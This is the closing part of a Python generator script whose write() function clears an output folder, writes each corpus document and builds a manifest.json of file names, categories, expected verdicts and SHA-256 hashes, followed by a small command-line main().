def write(outdir: Path) -> list[dict[str, Any]]:
    """Write every document and the manifest into `outdir` (created; old documents removed)."""
    documents = outdir / "documents"
    documents.mkdir(parents=True, exist_ok=True)
    for old in documents.iterdir():
        old.unlink()
    entries: list[dict[str, Any]] = []
    seen: set[str] = set()
    for doc in corpus():
        if doc.file in seen:
            raise ValueError(f"duplicate document name {doc.file}")
        if doc.expected not in VERDICTS:
            raise ValueError(f"{doc.file}: unknown verdict {doc.expected}")
        seen.add(doc.file)
        (outdir / doc.file).write_bytes(doc.data)
        entries.append(
            {
                "file": doc.file,
                "category": doc.category,
                "variant": doc.variant,
                "expected": doc.expected,
                "why": doc.why,
                "message": doc.message,
                "bytes": len(doc.data),
                "sha256": hashlib.sha256(doc.data).hexdigest(),
                "decoded": doc.decoded,
            }
        )
    manifest = {"max_bytes": MAX_BYTES, "count": len(entries), "documents": entries}
    (outdir / "manifest.json").write_text(
        json.dumps(manifest, indent=1, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    return entries


def main(argv: list[str]) -> int:
    if len(argv) > 1 or (argv and argv[0].startswith("-")):
        print("usage: generate.py [OUTDIR]", file=sys.stderr)
        return 2
    outdir = Path(argv[0]) if argv else DEFAULT_OUTDIR
    entries = write(outdir)
    print(f"{len(entries)} documents written to {outdir}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
